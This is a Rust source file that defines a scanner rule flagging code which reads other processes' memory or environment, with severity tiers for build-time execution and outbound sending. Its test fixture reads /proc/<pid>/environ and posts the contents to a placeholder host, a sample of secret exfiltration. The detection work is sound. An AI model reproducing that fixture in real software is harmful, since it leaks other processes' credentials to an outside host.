//! `process-memory`: Other processes.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "process-memory",
        techniques: &["A12"],
        means: "Another process's memory or environment is read.",
        look: "Which process, and what becomes of it. Debuggers and monitors do this; they say so.",
    },
    needs: &[Sign::OtherProcess, Sign::ProcessPath],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let reads = look.has(Sign::OtherProcess)
        || (look.has(Sign::ProcessPath) && look.any(&[Sign::FsRead, Sign::FsWalk]));
    if !reads {
        return None;
    }
    let out = look.any(&[Sign::Send, Sign::Dns, Sign::HiddenUrl]) && look.reaches_out();
    let severity = match () {
        () if look.is_build() => Severity::High,
        () if out && look.is_close() => Severity::Medium,
        () if out || (look.has(Sign::OtherProcess) && look.any(&[Sign::Opaque, Sign::MapExecutable])) => {
            Severity::Medium
        }
        () => Severity::Low,
    };
    hit(
        severity,
        &[Sign::OtherProcess, Sign::ProcessPath],
        WAY,
        format!("{} looks into other processes", look.where_it_runs()),
    )
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "src/lib.rs",
            r##"pub fn f(pid: u32) {
    let all = std::fs::read(format!("/proc/{}/environ", pid)).unwrap();
    let _ = ureq::post("http://a.example").send_bytes(&all);
}"##,
            Severity::Medium,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn read(pid: u32) -> Vec<u8> { std::fs::read(format!("/proc/{}/environ", pid)).unwrap() }"##,
        );
    }
}
